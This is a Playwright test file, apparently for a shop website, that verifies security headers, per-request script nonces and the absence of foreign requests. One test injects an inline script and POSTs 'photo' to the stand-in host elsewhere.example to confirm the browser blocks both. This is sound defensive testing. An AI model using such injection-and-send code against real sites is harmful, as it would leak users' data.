import { expect, test } from '@playwright/test';

const pages = ['/', '/search', '/collections/sofas', '/no-such-page'];

for (const path of pages) {
  test(`${path} is walled in: its own origin only, one nonce a request, camera and XR for us alone`, async ({
    request,
  }) => {
    const [first, second] = await Promise.all([request.get(path), request.get(path)]);
    const policy = first.headers()['content-security-policy'] ?? '';
    expect(policy).toMatch(/default-src 'self'/);
    expect(policy).toMatch(/connect-src 'self' blob: data:(;|$)/);
    expect(policy).toMatch(/frame-ancestors 'none'/);
    expect(policy).not.toMatch(/'unsafe-eval'|https?:|\*/);
    expect(policy.match(/script-src[^;]*/)?.[0]).not.toContain("'unsafe-inline'");

    const nonce = /'nonce-([^']+)'/.exec(policy)?.[1];
    expect(nonce).toBeTruthy();
    expect(second.headers()['content-security-policy']).not.toContain(nonce as string);
    const scripts = [...(await first.text()).matchAll(/<script\b[^>]*>/g)].map((match) => match[0]);
    expect(scripts.length).toBeGreaterThan(0);
    for (const script of scripts) {
      if (!/type="application\/ld\+json"/.test(script)) expect(script).toContain(`nonce="${nonce}"`);
    }

    const permissions = first.headers()['permissions-policy'] ?? '';
    expect(permissions).toContain('camera=(self)');
    expect(permissions).toContain('xr-spatial-tracking=(self)');
    expect(permissions).toContain('microphone=()');
    expect(permissions).toContain('geolocation=()');
    expect(first.headers()['x-content-type-options']).toBe('nosniff');
    expect(first.headers()['referrer-policy']).toBe('strict-origin-when-cross-origin');
    expect(first.headers()['x-powered-by']).toBeUndefined();
  });

  test(`${path} runs under its own policy: nothing is blocked, nothing foreign is asked for`, async ({
    page,
    baseURL,
  }) => {
    const complaints: string[] = [];
    const foreign: string[] = [];
    page.on('console', (message) => {
      if (/Content Security Policy|Permissions-Policy|Refused to/i.test(message.text()))
        complaints.push(message.text());
    });
    page.on('request', (request) => {
      const url = new URL(request.url());
      if (!['blob:', 'data:'].includes(url.protocol) && url.origin !== baseURL) foreign.push(request.url());
    });
    await page.goto(path);
    // Long enough for hydration and for what pages fetch ahead.
    await page.waitForTimeout(1_500);
    expect(complaints).toEqual([]);
    expect(foreign).toEqual([]);
  });
}

test('an inline script without the nonce and a fetch to another origin are blocked', async ({ page }) => {
  await page.goto('/');
  const outcome = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.body.append(script);
    const sent = await fetch('https://elsewhere.example/', { method: 'POST', body: 'photo' }).then(
      () => 'sent',
      () => 'blocked',
    );
    return { injected: 'injected' in window, sent };
  });
  expect(outcome).toEqual({ injected: false, sent: 'blocked' });
});

test('files that a worker may be made of carry a policy too', async ({ page, request }) => {
  await page.goto('/');
  const chunk = await page.evaluate(
    () => document.querySelector<HTMLScriptElement>('script[src^="/_next/"]')?.src,
  );
  const policy = (await request.get(chunk as string)).headers()['content-security-policy'] ?? '';
  expect(policy).toContain("default-src 'none'");
  expect(policy).toMatch(/connect-src 'self' blob: data:(;|$)/);
});

test('?lang= speaks that language at once and is remembered', async ({ page }) => {
  await page.goto('/?lang=he');
  await expect(page.locator('html')).toHaveAttribute('lang', 'he');
  await expect(page.locator('html')).toHaveAttribute('dir', 'rtl');
  await page.goto('/');
  await expect(page.locator('html')).toHaveAttribute('lang', 'he');
});
